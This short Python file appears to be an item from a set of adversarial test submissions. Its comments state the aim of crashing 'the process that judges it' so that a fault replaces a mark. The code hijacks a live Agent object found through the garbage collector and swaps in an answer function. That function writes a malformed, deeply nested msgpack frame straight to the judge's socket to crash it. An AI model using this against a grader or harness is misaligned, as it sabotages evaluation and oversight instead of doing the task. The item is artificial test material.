# kind = "harm"
# goal = "the process that judges it, and so a fault in place of a mark"
# trick = "an agent of its own whose outputs nest as deep as msgpack reads and deeper than it writes"
# mark = 0
# verdict = "CRASH"
# %%
import gc, struct
import msgpack
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
def answer(frame):
    body = msgpack.packb([frame.message[0], "ok"])[1:] + b"\x92\xa2ok" + b"\x91" * 900 + b"\x90" + b"\x90"
    agent.channel.sock.sendall(struct.pack("<II", len(body) + 1, 0) + b"\x94" + body)
agent.answer = answer
